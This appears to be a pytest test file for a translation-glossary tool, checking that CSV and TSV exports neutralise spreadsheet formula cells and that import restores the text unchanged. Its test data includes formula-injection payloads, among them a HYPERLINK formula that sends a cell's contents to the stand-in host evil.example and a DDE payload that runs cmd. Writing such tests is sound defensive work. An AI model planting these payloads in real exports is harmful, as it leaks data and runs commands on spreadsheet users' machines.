"""Spreadsheet (CSV/formula) injection: the CSV and TSV exports neutralise every cell a
spreadsheet would run, as OWASP recommends (a leading `'`), and the import takes it off again,
so a round trip is lossless whatever the text starts with."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from steppe_names import load_glossary
from steppe_names.glossary import csv_format
from steppe_names.glossary.po_format import term_content
from steppe_names.model import Entry, Term
from tests.test_po_helpers import steppe, tree

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click me")', "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1)", "\t=1", "\r=1", "=1+2", "-1", "+", "@", "=", "\t", "\r"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_get_a_quote(payload: str) -> None:
    assert csv_format.neutralise(payload) == "'" + payload
    assert csv_format.restore("'" + payload) == payload


@pytest.mark.parametrize(("text", "cell"), [
    ("'=1", "''=1"),  # a quote the import would take off: quoted too
    ("''", "'''"),
    ("'\t", "''\t"),
    ("'-", "''-"),
    ("'s-Hertogenbosch", "'s-Hertogenbosch"),  # a quote before anything else stays as it is
    ("'", "'"),
    ("", ""),
    ("a=b", "a=b"),
    (" =1", " =1"),
    ("Улан-Батор", "Улан-Батор"),
])
def test_quotes_are_quoted_only_where_the_import_would_take_them(text: str, cell: str) -> None:
    assert csv_format.neutralise(text) == cell
    assert csv_format.restore(cell) == text


@settings(max_examples=500, deadline=None)
@given(st.one_of(st.text(alphabet="'=+-@\t\rab ", max_size=6), st.text()))
def test_any_text_survives_neutralise_and_restore(text: str) -> None:
    cell = csv_format.neutralise(text)
    assert not cell.startswith(csv_format.FORMULA_TRIGGERS)
    assert csv_format.restore(cell) == text


GLOSSARY = """\
[formula]
kind = "place"
notes = "=1+1"
[formula.en]
preferred = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
admitted = ["@SUM(1)", "-2+3"]
[formula.ru]
preferred = { text = "+Плюс", note = "=1+2" }
admitted = [{ text = "-Минус", note = "\\t=1" }, { text = "'Кавычка", note = "'=1" }]
deprecated = [{ text = "''Две", note = "\\r=1" }, { text = "@Собака", note = "''" }]
[formula.ja]
preferred = "=東京"
admitted = [{ text = "-東京", note = "+cmd|' /C calc'!A0" }]

[dde]
kind = "org"
[dde.en]
preferred = "+cmd|' /C calc'!A0"
[dde.ru]
preferred = "Обычный"
"""


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "glossary").mkdir()
    (tmp_path / "glossary" / "formula.toml").write_text(GLOSSARY, encoding="utf-8")
    return tmp_path


def cells(path: Path, fmt: str) -> list[list[str]]:
    text = path.read_bytes().decode("utf-8")  # (read_text would turn a \r into \n)
    if fmt == "csv":
        return list(csv.reader(io.StringIO(text, newline="")))[1:]
    return [line.split("\t") for line in text.split("\n")[1:] if line]


@pytest.mark.parametrize(("fmt", "lang"), [("csv", "ru"), ("tsv", "ru"), ("csv", "ja"),
                                           ("tsv", "ja")])
def test_exports_neutralise_every_cell_and_import_gives_the_text_back(project: Path, fmt: str,
                                                                      lang: str) -> None:
    out = f"{lang}.{fmt}"
    result = steppe("glossary", "export", "--format", fmt, "--lang", lang, "-o", out,
                    "--glossary", "glossary")
    assert result.code == 0, result.err
    rows = cells(project / out, fmt)
    assert rows
    for row in rows:
        for cell in row:
            assert not cell.startswith(csv_format.FORMULA_TRIGGERS), (row, cell)
    flat = [cell for row in rows for cell in row]
    assert """'=HYPERLINK("http://evil.example/?x="&A1,"Click me")""" in flat
    if lang == "ru":
        assert "'+Плюс" in flat and "'-Минус" in flat and "'Кавычка" in flat
        assert "'''Две" in flat and "'@Собака" in flat
        if fmt == "csv":  # the notes are cells of their own
            assert {"'=1+2", "'\t=1", "''=1", "'\r=1", "'''"} <= set(flat)
    before = tree(project / "glossary")
    back = steppe("glossary", "import", out, "--lang", lang, "--glossary", "glossary")
    assert back.code == 0, back.err
    assert "0 entries changed" in back.out
    assert tree(project / "glossary") == before


def test_a_spreadsheet_that_saves_without_quotes_keeps_the_apostrophes(project: Path) -> None:
    assert steppe("glossary", "export", "--lang", "ru", "-o", "ru.csv",
                  "--glossary", "glossary").code == 0
    path = project / "ru.csv"
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))
    row = next(r for r in rows if r[5] == "formula")
    row[2] = "'+Плюс!"  # a translator's edit, typed as the spreadsheet shows the others
    out = io.StringIO()
    csv.writer(out, quoting=csv.QUOTE_MINIMAL).writerows(rows)
    path.write_bytes(out.getvalue().encode("utf-8"))
    result = steppe("glossary", "import", "ru.csv", "--lang", "ru", "--glossary", "glossary")
    assert result.code == 0, result.err
    terms = load_glossary(project / "glossary")["formula"].terms_in("ru")
    assert [(t.text, t.note) for t in terms] == [
        ("+Плюс!", "=1+2"), ("-Минус", "\t=1"), ("'Кавычка", "'=1"), ("''Две", "\r=1"),
        ("@Собака", "''")]


# Round trips of arbitrary text: what a cell starts with never changes what comes back.
STARTS = st.text(alphabet="'=+-@", max_size=4)
NOTES = st.tuples(st.text(alphabet="'=+-@\t\r\n ", max_size=4),
                  st.text(st.characters(codec="utf-8"), max_size=6)).map("".join)


@settings(max_examples=300, deadline=None)
@given(starts=st.lists(STARTS, min_size=3, max_size=3), notes=st.lists(NOTES, min_size=3,
                                                                       max_size=3))
def test_csv_and_tsv_give_back_any_text_whatever_it_starts_with(starts: list[str],
                                                               notes: list[str]) -> None:
    terms = (Term(starts[0] + "Плюс", "ru", "preferred", note=notes[0]),
             Term(starts[1] + "Минус", "ru", "admitted", note=notes[1]),
             Term(starts[2] + "Две", "ru", "deprecated", note=notes[2], source=notes[0]))
    entry = Entry("x", "place", (Term(starts[0] + "Plus", "en", "preferred"), *terms))
    for fmt in ("csv", "tsv"):
        dump = csv_format.dumps_weblate if fmt == "csv" else csv_format.dumps_omegat
        loads = csv_format.loads_weblate if fmt == "csv" else csv_format.loads_omegat
        text, _dropped = dump([entry], "ru")
        rows = loads(text, "ru", f"x.{fmt}")
        assert [term_content(row.term) for row in rows if row.term] == \
            [term_content(term) for term in terms], fmt
